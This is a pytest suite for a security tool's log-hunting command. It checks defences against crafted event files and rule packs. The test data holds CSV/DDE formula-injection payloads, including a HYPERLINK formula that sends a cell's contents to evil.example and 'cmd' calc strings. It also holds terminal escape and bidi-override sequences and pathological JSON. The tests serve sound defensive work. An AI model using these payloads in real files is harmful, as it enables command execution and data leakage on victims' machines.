"""`soc hunt` reads files nobody vouches for (attacker: crafted file) with rules from a rule pack (attacker: crafted
rule pack), and a responder opens what it writes. Each test goes through the real `soc hunt` (a subprocess, as a
responder runs it) unless it checks a bound that only shows inside:

- the timeline's CSV holds no cell a spreadsheet would run as a formula;
- a hostile record costs that record only, with one process or several: the other files' detections are reported,
  the error is on stderr, the exit code is 0;
- a JSON line of any length is skipped without being held in memory;
- the summary's counts per computer stay bounded whatever the computer names;
- the timeline's spill file has no name while the hunt runs, so that nothing is left behind when it is killed;
- a worker killed from outside costs its file only, and the hunt ends.
"""

from __future__ import annotations

import csv
import json
import os
import select
import signal
import subprocess
import sys
import textwrap
import threading
import time
import tracemalloc
from pathlib import Path

import pytest

from tests.conftest import PROJECT

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
RULE = textwrap.dedent(f"""\
    title: '{TITLE}'
    id: 33333333-3333-4333-8333-333333333333
    status: test
    level: high
    logsource: {{product: windows}}
    detection:
        selection:
            Image|endswith: '.exe'
        marker:
            Marker: hit
        condition: selection or marker
    tags: [attack.execution, attack.t1059]
    """)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture()
def rules(tmp_path) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "rule.yml").write_text(RULE, encoding="utf-8")
    return folder


def soc_hunt(rules: Path, tmp_path: Path, *args: str, workers: int = 1, timeout: float = 120):
    return subprocess.run([sys.executable, "-m", "suite.cli", "hunt", "-q", "--no-event", "--workers", str(workers),
                           "--rules", str(rules), "--cache-dir", str(tmp_path / "cache"), *args],
                          capture_output=True, text=True, timeout=timeout, cwd=PROJECT)


def event(**fields) -> dict:
    return {"Channel": "Security", "EventID": 4688, "Computer": "PC1", "Image": "C:\\good.exe",
            "TimeCreated": "2024-01-01T00:00:00Z", **fields}


# --- CSV formula injection ----------------------------------------------------------------------------------------
HOSTILE = [  # (the field, its value, the timeline column it shows in)
    ("Computer", "=cmd|' /C calc'!A0", "computer"),
    ("Computer", "+SUM(1+1)*cmd|' /C calc'!A0", "computer"),
    ("Computer", "\uff1dHYPERLINK(\"http://evil.example\")", "computer"),  # full-width =
    ("Computer", "  @SUM(1+1)", "computer"),  # after blanks
    ("TimeCreated", "-2+3+cmd|' /C calc'!A0", "timestamp"),  # no time: kept as the event gives it
    ("TimeCreated", "\uff0b1", "timestamp"),
    ("EventRecordID", "@SUM(1+1)*cmd|' /C calc'!A0", "record_id"),
    ("EventRecordID", "\uff20x", "record_id"),
    ("Channel", "=1+1", "channel"),
    ("Channel", "\uff0d1", "channel"),
    ("EventID", "\t=1+1", "event_id"),
    ("EventID", "\r=1+1", "event_id"),
]


def hostile_lines() -> list[dict]:
    docs = [event(**{name: value}) for name, value, _ in HOSTILE]
    # An event of no known kind: its details line starts with its first field's name.
    docs.append({"Channel": "Custom", "EventID": 1, "=HYPERLINK(\"http://evil.example\")": "x", "Marker": "hit"})
    return docs


def test_the_timeline_csv_holds_no_formula(rules, tmp_path):
    source = tmp_path / "events.jsonl"
    docs = hostile_lines()
    source.write_text("".join(json.dumps(doc) + "\n" for doc in docs), encoding="utf-8")
    timeline = tmp_path / "timeline.csv"
    result = soc_hunt(rules, tmp_path, "--timeline", str(timeline), str(source))
    assert result.returncode == 0, result.stderr
    assert len(result.stdout.splitlines()) == len(docs)
    with timeline.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(docs)
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (column, cell)
    by_line = {int(row["line"]): row for row in rows}
    for line, (name, value, column) in enumerate(HOSTILE, start=1):
        assert by_line[line][column] == "'" + value, (name, by_line[line][column])  # quoted, otherwise as it was
        assert by_line[line]["rule"] == "'" + TITLE  # the rule pack's title too
    assert by_line[len(docs)]["details"].startswith("'=HYPERLINK")


def test_the_timeline_json_lines_keep_the_values_as_they_are(rules, tmp_path):
    source = tmp_path / "events.jsonl"
    source.write_text("".join(json.dumps(doc) + "\n" for doc in hostile_lines()), encoding="utf-8")
    timeline = tmp_path / "timeline.jsonl"
    result = soc_hunt(rules, tmp_path, "--timeline", str(timeline), str(source))
    assert result.returncode == 0, result.stderr
    rows = {row["line"]: row for row in map(json.loads, timeline.read_text(encoding="utf-8").splitlines())}
    assert rows[1]["computer"] == HOSTILE[0][1] and rows[1]["rule"] == TITLE
    assert rows[5]["timestamp"] == HOSTILE[4][1] and rows[9]["channel"] == "=1+1"


# --- one hostile record costs that record only -------------------------------------------------------------------------
def deep(levels: int) -> str:
    return '{"a": ' + "[" * levels + "]" * levels + "}"


BAD_LINES = {  # line number in hostile.jsonl -> what stderr says of it
    1: (deep(200_000), "nested too deeply"),  # RecursionError in the decoder
    2: (deep(100), "nested too deeply"),  # decodes, but would exhaust the stack later
    3: ('{"winlog": "x"}', "bad record"),  # AttributeError in the views
    4: ('{"Event": {"System": "x"}}', "bad record"),
    5: ('{"Channel": "Security", "EventID": [4688], "Image": "a.exe"}', "bad record"),  # unhashable routing key
    6: ('{"Event": {"System": {"Provider": {"#attributes": "x"}, "EventID": 4688}}}', "bad record"),
    7: ('"just a string"', "not a JSON object"),
    8: ("{" + "1" * 5000, "not a JSON object"),
    9: ('{"a": ' + "1" * 5000 + "}", "not a JSON object"),  # beyond Python's digits limit
    10: (b"\xff\xfe\xff{}".decode("latin-1"), "not a JSON object"),
}
LONG_LINE = 11  # a line longer than MAX_LINE


@pytest.fixture()
def hostile(tmp_path) -> tuple[Path, Path]:
    from detections.hunt import MAX_LINE

    bad = tmp_path / "hostile.jsonl"
    with bad.open("wb") as fh:
        for number in range(1, LONG_LINE):
            fh.write(BAD_LINES[number][0].encode("latin-1" if number == 10 else "utf-8") + b"\n")
        fh.write(b'{"Image": "' + b"x" * (MAX_LINE + 10) + b'.exe"}\n')
        # Readable records after them are still hunted, a lone surrogate (JSON's escape) and a shallow nesting too.
        fh.write(json.dumps(event(Computer="\ud800", EventRecordID=12)).encode() + b"\n")
        fh.write(json.dumps(event(Extra=[[[{"a": [1]}]]], EventRecordID=13)).encode() + b"\n")
        # Values that would break a view or a time without the record being unreadable: still hunted.
        fh.write(json.dumps(event(EventRecordID="\u00b2", TimeCreated="0001-01-01T00:00:00+01:00")).encode() + b"\n")
        fh.write(json.dumps(event(EventRecordID="9" * 5000, TimeCreated="9999-12-31T23:59:59-01:00")).encode()
                 + b"\n")
    good = tmp_path / "good.jsonl"
    good.write_text(json.dumps(event(EventRecordID=42)) + "\n", encoding="utf-8")
    return bad, good


@pytest.mark.parametrize("workers", [1, 2])
def test_hostile_records_are_reported_and_the_hunt_goes_on(rules, tmp_path, hostile, workers):
    bad, good = hostile
    timeline, summary = tmp_path / "timeline.csv", tmp_path / "summary.json"
    result = soc_hunt(rules, tmp_path, "--timeline", str(timeline), "--summary", str(summary), str(bad), str(good),
                      workers=workers)
    assert result.returncode == 0, result.stderr
    found = {(Path(d["file"]).name, d["record_id"]) for d in map(json.loads, result.stdout.splitlines())}
    assert found == {("good.jsonl", 42), ("hostile.jsonl", 12), ("hostile.jsonl", 13), ("hostile.jsonl", "\u00b2"),
                     ("hostile.jsonl", "9" * 5000)}
    stderr = " ".join(result.stderr.split())  # rich wraps lines
    for number, (_, reason) in BAD_LINES.items():
        assert f"skipped {bad}#{number}: {reason}" in stderr, (number, stderr)
    assert f"skipped {bad}#{LONG_LINE}: line longer than" in stderr
    assert f"{LONG_LINE} unreadable records" in stderr
    assert json.loads(summary.read_text())["unreadable_records"] == LONG_LINE
    with timeline.open(newline="", encoding="utf-8") as fh:
        assert len(list(csv.DictReader(fh))) == 5


def test_a_long_line_is_not_held(tmp_path):
    """A JSON line far longer than MAX_LINE is read past a block at a time: the hunt never holds much more than
    MAX_LINE bytes of it."""
    from detections.hunt import MAX_LINE, HuntErrors, _json_events, _Position

    path = tmp_path / "long.jsonl"
    with path.open("wb") as fh:
        fh.write(b'{"a": "')
        for _ in range(4 * MAX_LINE // (1 << 20)):
            fh.write(b"x" * (1 << 20))
        fh.write(b'"}\n{"Channel": "Security", "EventID": 1}\n')
    errors = HuntErrors()
    tracemalloc.start()
    try:
        events = [e for e in _json_events(path, errors, _Position()) if e is not None]
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [e.line for e in events] == [2] and len(errors) == 1 and errors[0].record == 1
    assert peak < 2 * MAX_LINE, peak  # of a line of 4 * MAX_LINE


# --- bounded summary ----------------------------------------------------------------------------------------------------
def test_the_summary_counts_computers_in_bounded_memory():
    from types import SimpleNamespace

    from detections.hunt import HuntEvent
    from detections.timeline import HuntSummary

    keep = 50
    summary = HuntSummary(computers=keep)
    meta = SimpleNamespace(id="r", title="R", level="high", techniques=["T1059"], tactics=["execution"])
    truth: dict[str, int] = {}
    for n in range(20_000):
        name = f"hot{n % 3}" if n % 4 == 0 else f"forged-{n}"  # a quarter of them on three hosts
        truth[name] = truth.get(name, 0) + 1
        summary.add(meta, HuntEvent({"Computer": name}, (), "f", n, None), None)
        assert len(summary.by_computer) <= 2 * keep
    out = summary.as_dict()
    assert out["detections"] == 20_000 and not out["by_computer_complete"]
    assert len(out["by_computer"]) <= keep and {"hot0", "hot1", "hot2"} <= set(out["by_computer"])
    undercount = out["by_computer_undercount"]
    assert 0 < undercount <= 20_000 // (keep + 1)
    for name, count in out["by_computer"].items():
        assert count <= truth[name] <= count + undercount
    assert out["by_computer_other"] == 20_000 - sum(out["by_computer"].values())
    assert "counts approximate" in summary.text()


def test_the_summary_is_exact_for_a_real_number_of_computers():
    from types import SimpleNamespace

    from detections.hunt import HuntEvent
    from detections.timeline import HuntSummary

    summary = HuntSummary(computers=50)  # up to 100 names counted exactly, all listed
    meta = SimpleNamespace(id="r", title="R", level="high", techniques=[], tactics=[])
    for n in range(5000):
        summary.add(meta, HuntEvent({"Computer": f"pc{n % 100}"}, (), "f", n, None), None)
    out = summary.as_dict()
    assert out["by_computer_complete"] and out["by_computer"] == {f"pc{n}": 50 for n in range(100)}


def test_terminal_escapes_and_markup_from_events_and_file_names_are_not_obeyed(rules, tmp_path):
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    (evidence / "events.jsonl").write_text(json.dumps(event(Computer="\x1b]0;owned\x07\x1b[2J\u202eexe.txt")) + "\n",
                                           encoding="utf-8")
    (evidence / "[bold red]x\x1b[31m.jsonl").write_text("not json\n", encoding="utf-8")  # names come with the evidence
    result = soc_hunt(rules, tmp_path, str(evidence))
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr
    stderr = " ".join(result.stderr.split())  # rich wraps lines
    assert "\\x1b]0;owned" in stderr and "[bold red]x\\x1b[31m.jsonl#1: not a JSON object" in stderr


# --- the spill file -----------------------------------------------------------------------------------------------------
def test_a_killed_hunt_leaves_no_spill_file(rules, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    first = tmp_path / "first.jsonl"
    first.write_text(json.dumps(event(EventRecordID=1)) + "\n", encoding="utf-8")
    held = tmp_path / "held.jsonl"
    os.mkfifo(held)  # nobody writes it: the hunt waits there, its timeline open
    proc = subprocess.Popen([sys.executable, "-m", "suite.cli", "hunt", "-q", "--no-event", "--workers", "1",
                             "--rules", str(rules), "--cache-dir", str(tmp_path / "cache"), "--timeline",
                             str(out / "timeline.csv"), str(first), str(held)],
                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, cwd=PROJECT)
    try:
        assert select.select([proc.stdout], [], [], 120)[0], "no detection in time"
        assert proc.stdout.readline(), "no detection"  # written when first.jsonl is done: the hunt waits on held
        targets = []
        for fd in Path(f"/proc/{proc.pid}/fd").iterdir():
            try:
                targets.append(os.readlink(fd))
            except OSError:
                pass
        spills = [t for t in targets if ".soc-timeline-" in t]
        assert spills and all(t.endswith(" (deleted)") for t in spills), targets  # open, already without a name
        assert list(out.iterdir()) == []
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(timeout=30)
    assert list(out.iterdir()) == []  # no timeline (the hunt did not end), and no spill file or folder


def test_the_spill_file_has_no_name_from_the_start(tmp_path):
    from detections.timeline import Timeline

    timeline = Timeline(tmp_path / "t.csv")
    try:
        assert list(tmp_path.iterdir()) == [] and not timeline.spill.exists() and not timeline.folder.exists()
    finally:
        timeline.discard()


# --- workers killed from outside ------------------------------------------------------------------------------------
def _holding(path: Path) -> int | None:
    """The process (not this one) that has ``path`` open."""
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit() or int(proc.name) == os.getpid():
            continue
        try:
            if any(os.readlink(fd) == str(path) for fd in (proc / "fd").iterdir()):
                return int(proc.name)
        except OSError:
            continue
    return None


def test_a_worker_killed_from_outside_costs_its_file_only(tmp_path):
    """A worker blocked reading a file (a pipe nobody writes) is killed with SIGKILL: its file is reported, the
    other files are hunted, and the hunt ends."""
    from detections.engine import DetectionEngine
    from detections.hunt import HuntErrors, hunt_parallel
    from detections.sigma.loader import load_rules

    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "rule.yml").write_text(RULE, encoding="utf-8")
    engine = DetectionEngine(load_rules([folder], workers=1))
    held = tmp_path / "held.jsonl"
    os.mkfifo(held)
    others = []
    for n in range(6):
        path = tmp_path / f"f{n}.jsonl"
        path.write_text(json.dumps(event(EventRecordID=n)) + "\n", encoding="utf-8")
        others.append(path)
    killed: list[int] = []
    stop = threading.Event()

    def hold() -> None:  # opens the pipe for writing (so that the reader's open returns) and writes nothing
        with held.open("w"):
            stop.wait(120)

    def kill() -> None:  # kills the worker reading the pipe, once one does
        deadline = time.monotonic() + 60
        while not killed and time.monotonic() < deadline:
            pid = _holding(held)
            if pid is not None:
                os.kill(pid, signal.SIGKILL)
                killed.append(pid)
            time.sleep(0.05)

    writer = threading.Thread(target=hold, daemon=True)
    writer.start()
    killer = threading.Thread(target=kill, daemon=True)
    killer.start()
    errors = HuntErrors()
    try:
        found = [Path(e.source).name for _, e in hunt_parallel(engine, [held, *others], errors, 2)]
    finally:
        stop.set()
    killer.join(5)
    assert killed, "no worker had the pipe open"
    assert sorted(found) == sorted(p.name for p in others)
    assert len(errors) == 1 and errors[0].source == str(held) and "died" in errors[0].reason
